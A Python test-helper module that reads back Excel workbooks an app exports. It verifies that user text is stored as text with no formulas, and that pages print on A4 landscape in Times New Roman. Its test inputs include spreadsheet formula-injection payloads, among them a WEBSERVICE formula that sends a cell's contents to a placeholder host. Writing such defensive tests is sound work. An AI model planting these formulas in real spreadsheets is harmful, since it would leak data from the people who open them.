"""Workbooks the app wrote, read back as a spreadsheet reads them: what each cell
holds and whether the file carries any formula."""

from __future__ import annotations

import io
import posixpath
import zipfile
from xml.etree import ElementTree

from openpyxl import load_workbook
from openpyxl.cell.cell import MergedCell

from core.workbooks import NUMBER_HEADER

# Names a user might type that a spreadsheet would take for formulas.
HYPERLINK = '=HYPERLINK("http://x","y")'
WEBSERVICE = '=WEBSERVICE("http://x/?"&A1)'
PLUS, MINUS, AT, TAB = "+1+1", "-2+3", "@SUM(A1)", "\t=1"
FORMULA_LIKE = (HYPERLINK, WEBSERVICE, PLUS, MINUS, AT, TAB)

_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_RELATIONSHIP = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
_PACKAGE = "{http://schemas.openxmlformats.org/package/2006/relationships}"


def _parsed(archive: zipfile.ZipFile, part: str) -> ElementTree.Element:
    return ElementTree.fromstring(archive.read(part))  # noqa: S314 - a file the app itself just wrote


def _sheet_parts(archive: zipfile.ZipFile) -> dict[str, str]:
    """Sheet name → the path of its XML part, as a spreadsheet finds it."""
    targets = {
        rel.get("Id"): rel.get("Target")
        for rel in _parsed(archive, "xl/_rels/workbook.xml.rels").iter(f"{_PACKAGE}Relationship")
    }
    parts = {}
    for sheet in _parsed(archive, "xl/workbook.xml").iter(f"{_MAIN}sheet"):
        target = targets[sheet.get(_RELATIONSHIP)]
        parts[sheet.get("name")] = target.lstrip("/") if target.startswith("/") else posixpath.join("xl", target)
    return parts


def formulas(content: bytes) -> list[str]:
    """Every cell of the workbook that holds a formula (``<f>``), as "sheet!A1"."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name, part in _sheet_parts(archive).items():
            for cell in _parsed(archive, part).iter(f"{_MAIN}c"):
                if cell.find(f"{_MAIN}f") is not None:
                    found.append(f"{name}!{cell.get('r')}")
    return found


def assert_written_as_text(content: bytes, cells: dict[tuple[str, str], str]) -> None:
    """Each cell of ``cells`` ((sheet, coordinate) → text) holds exactly that text, as
    text: a string once opened, marked so that editing it keeps it text, and no formula
    in the file's XML for it (nor for any other cell)."""
    book = load_workbook(io.BytesIO(content))
    for (sheet, coordinate), text in cells.items():
        cell = book[sheet][coordinate]
        assert (cell.data_type, cell.value) == ("s", text), f"{sheet}!{coordinate}"
        assert cell.quotePrefix, f"{sheet}!{coordinate}"
    assert formulas(content) == []


def cell_formats(content: bytes) -> int:
    """How many cell formats (``cellXfs``) the workbook's styles declare."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return len(list(_parsed(archive, "xl/styles.xml").find(f"{_MAIN}cellXfs")))


def table(ws) -> tuple[list[str], list[list]]:
    """A sheet the app wrote, read as a table: its headers (a grouped column's after its
    group's heading, from the row above: "Thực hiện BHXH tự nguyện") and the values of
    the rows below them, both without the row number (STT) in front."""
    rows = list(ws.iter_rows())
    index = next(i for i, row in enumerate(rows) if row[0].value == NUMBER_HEADER)
    above = rows[index - 1] if index else []
    grouped = bool(above) and above[0].value is None  # a title line fills its first cell
    groups, group = [], None
    for cell in above if grouped else ():
        if cell.value is not None or not isinstance(cell, MergedCell):
            group = cell.value
        groups.append(group)
    headers = [
        f"{cell.value} {groups[n]}" if grouped and groups[n] else cell.value for n, cell in enumerate(rows[index])
    ]
    return headers[1:], [[cell.value for cell in row][1:] for row in rows[index + 1 :]]


def assert_laid_out_to_print(content: bytes) -> None:
    """Every sheet of the workbook prints on A4 landscape, one page wide and as many
    tall as it takes, its title and header rows repeated on each page, within margins,
    with its page number; the header row, after its STT column, wraps its bold
    headers in columns at least as wide as their longest word and a row tall enough
    for their lines; and every font the workbook declares is named Times New Roman,
    tied to no theme font a spreadsheet would put in its place."""
    book = load_workbook(io.BytesIO(content))
    for ws in book.worksheets:
        name = ws.title
        setup = ws.page_setup
        assert (setup.orientation, int(setup.paperSize)) == ("landscape", int(ws.PAPERSIZE_A4)), name
        assert ws.sheet_properties.pageSetUpPr.fitToPage, name
        assert int(setup.fitToWidth or 1) == 1 and int(setup.fitToHeight) == 0, name  # width absent: 1
        margins = ws.page_margins
        assert min(margins.left, margins.right) >= 0.3 and min(margins.top, margins.bottom) >= 0.5, name
        assert "&P" in ws.oddFooter.center.text, name
        header = next(row for row in ws.iter_rows() if row[0].value == NUMBER_HEADER)
        number = header[0].row
        assert ws.print_title_rows == f"$1:${number}", name
        assert ws.freeze_panes == f"A{number + 1}", name
        height = ws.row_dimensions[number].height
        for cell in header:
            words = str(cell.value or "").split()
            width = column_width(ws, cell.column)
            assert cell.font.b and cell.alignment.wrap_text, f"{name}!{cell.coordinate}"
            assert all(len(word) + 1 <= width for word in words), f"{name}!{cell.coordinate}: {cell.value!r}"
            lines = len(_greedy_lines(words, width - 1))
            assert height >= 15 * lines, f"{name}!{cell.coordinate}: {lines} lines in {height} pt"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        fonts = list(_parsed(archive, "xl/styles.xml").find(f"{_MAIN}fonts"))
    assert fonts
    for font in fonts:
        assert font.find(f"{_MAIN}name").get("val") == "Times New Roman"
        assert font.find(f"{_MAIN}scheme") is None


def _greedy_lines(words: list[str], room: float) -> list[str]:
    """``words`` wrapped into lines of at most ``room`` characters (a word alone may be longer)."""
    lines: list[str] = []
    for word in words:
        if lines and len(lines[-1]) + 1 + len(word) <= room:
            lines[-1] += " " + word
        else:
            lines.append(word)
    return lines or [""]


def numbers(ws) -> list:
    """The STT column's values below the header."""
    rows = list(ws.iter_rows())
    index = next(i for i, row in enumerate(rows) if row[0].value == NUMBER_HEADER)
    return [row[0].value for row in rows[index + 1 :]]


def column_width(ws, column: int) -> float:
    """The width of the sheet's ``column`` (from 1): a spreadsheet stores equal
    widths of adjacent columns once, for the range."""
    for dimension in ws.column_dimensions.values():
        if dimension.min <= column <= dimension.max:
            return dimension.width
    raise AssertionError(f"{ws.title}: no width for column {column}")
